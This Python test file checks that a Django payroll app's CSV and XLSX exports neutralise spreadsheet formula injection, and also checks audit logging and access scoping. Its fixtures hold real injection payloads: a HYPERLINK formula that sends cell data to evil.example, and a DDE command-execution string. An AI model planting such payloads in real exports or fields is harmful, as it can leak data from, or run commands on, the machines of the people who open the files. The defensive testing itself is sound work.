"""Payroll downloads: formula-injection safe CSV and XLSX, audited, scoped like the payroll page."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from tests import factories as f
from tests.hours.hours_helpers import MONDAY, current, log, paid
from trellis.core.models import AuditEvent
from trellis.hours.models import HourLog, PayPeriod

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def world(personas):
    current(personas.placement_a)
    paid(personas.opportunity_p, "8.50")
    student = personas.student_a
    student.first_name, student.last_name = HYPERLINK, "@SUM(1)"
    student.save()
    school = personas.school_a
    school.name = "\t=1+1"
    school.save()
    opportunity = personas.opportunity_p
    opportunity.title = "-2+3"
    opportunity.save()
    log(personas.placement_a, start=(9, 0), end=(12, 0), status=HourLog.Status.APPROVED)
    return personas


@pytest.fixture
def period(world):
    return PayPeriod.objects.create(
        district=world.district,
        name="=cmd|' /C calc'!A0",
        start_date=dt.date(2026, 10, 1),
        end_date=dt.date(2026, 10, 31),
    )


def test_payroll_csv_neutralises_every_payload_and_keeps_numbers(client, world, period):
    client.force_login(world.coordinator_district)
    response = client.get(reverse("hours:payroll_export", args=[period.pk, "csv"]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(
        'attachment; filename="payroll-cmd-c-calca0-20261001-20261031.csv"'
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Student number", "Last name", "First name"]
    body = rows[1]
    assert body[1] == "'@SUM(1)"
    assert body[2] == "'" + HYPERLINK
    assert body[3] == "'\t=1+1"
    assert body[5] == "'-2+3"
    assert body[6:] == ["3.00", "8.50", "25.50"]
    assert rows[2] == ["Total", "", "", "", "", "", "3.00", "", "25.50"]


def test_payroll_xlsx_neutralises_text_cells_and_writes_numbers(client, world, period):
    client.force_login(world.coordinator_district)
    response = client.get(reverse("hours:payroll_export", args=[period.pk, "xlsx"]))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    row = [c for c in sheet[2]]
    assert [c.value for c in row[1:3]] == ["'@SUM(1)", "'" + HYPERLINK]
    assert row[3].value == "'\t=1+1" and row[5].value == "'-2+3"
    assert all(c.data_type == "s" for c in row[:6])
    assert [(c.value, c.data_type) for c in row[6:]] == [(3, "n"), (8.5, "n"), (25.5, "n")]
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_negative_amounts_stay_numbers_in_xlsx(client, world, period):
    from trellis.core.exports import xlsx_bytes

    sheet = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes(["Adjustment"], [[Decimal("-12.75")], ["-12.75"]]))
    ).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == (-12.75, "n")
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("'-12.75", "s")


def test_each_export_is_audited(client, world, period):
    client.force_login(world.coordinator_district)
    client.get(reverse("hours:payroll_export", args=[period.pk, "csv"]), REMOTE_ADDR="10.1.2.3")
    event = AuditEvent.objects.get(action="payroll.exported")
    assert event.actor == world.coordinator_district
    assert event.data == {"format": "csv", "rows": 1}
    assert event.ip_address == "10.1.2.3"
    assert event.district == world.district


@pytest.mark.parametrize(
    "persona",
    [
        "mentor_p",
        "partner_admin_p",
        "student_a_user",
        "guardian_a",
        "counselor_a",
        "other_coordinator",
    ],
)
def test_export_is_404_outside_coordinators_of_the_district(client, world, period, persona):
    client.force_login(getattr(world, persona))
    for fmt in ("csv", "xlsx"):
        assert client.get(reverse("hours:payroll_export", args=[period.pk, fmt])).status_code == 404
    assert not AuditEvent.objects.filter(action="payroll.exported").exists()


def test_school_coordinator_exports_only_their_school(client, world, period):
    other = current(
        f.PlacementFactory(opportunity=world.opportunity_p, student__school=world.school_b)
    )
    log(other, day=MONDAY, status=HourLog.Status.APPROVED)
    client.force_login(world.coordinator_b)
    rows = list(
        csv.reader(
            io.StringIO(
                client.get(reverse("hours:payroll_export", args=[period.pk, "csv"])).content.decode(
                    "utf-8-sig"
                )
            )
        )
    )
    assert len(rows) == 3  # header, Birch High's one student, total
    assert rows[1][1] == other.student.last_name


def test_unknown_export_format_is_404(client, world, period):
    client.force_login(world.coordinator_district)
    assert client.get(reverse("hours:payroll_export", args=[period.pk, "pdf"])).status_code == 404


def test_hours_go_from_student_to_mentor_approval_to_the_payroll_export(
    client, personas, django_capture_on_commit_callbacks
):
    """The whole journey: two logs, one approved in the app, one from the e-mailed link, then paid."""
    import re

    from django.core import mail

    current(personas.placement_a)
    paid(personas.opportunity_p, "10.00")
    period = PayPeriod.objects.create(
        district=personas.district,
        name="October",
        start_date=dt.date(2026, 10, 1),
        end_date=dt.date(2026, 10, 31),
    )
    client.force_login(personas.student_a_user)
    for day, end in (("2026-10-05", "12:00"), ("2026-10-06", "11:30")):
        response = client.post(
            reverse("hours:log", args=[personas.placement_a.pk]),
            {"date": day, "start_time": "09:00", "end_time": end, "description": "Front desk"},
        )
        assert response.status_code == 302
    first, second = HourLog.objects.order_by("date")

    client.force_login(personas.mentor_p)
    client.post(reverse("hours:approvals"), {"log": [first.pk]})

    client.force_login(personas.coordinator_district)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("hours:send_requests"))
    token = re.search(r"/hours/approve/([\w-]+)/", mail.outbox[-1].body).group(1)
    client.logout()
    assert client.post(reverse("hours:link", args=[token])).status_code == 200

    client.force_login(personas.coordinator_district)
    response = client.get(reverse("hours:payroll_export", args=[period.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][6:] == ["5.50", "10.00", "55.00"]
    assert set(HourLog.objects.values_list("approver_label", flat=True)) == {
        "Morgan Persona",
        "Morgan Persona (e-mailed link)",
    }
    actions = set(AuditEvent.objects.values_list("action", flat=True))
    assert {
        "hour_log.submitted",
        "hour_log.approved",
        "approval_link.sent",
        "approval_link.used",
        "payroll.exported",
    } <= actions
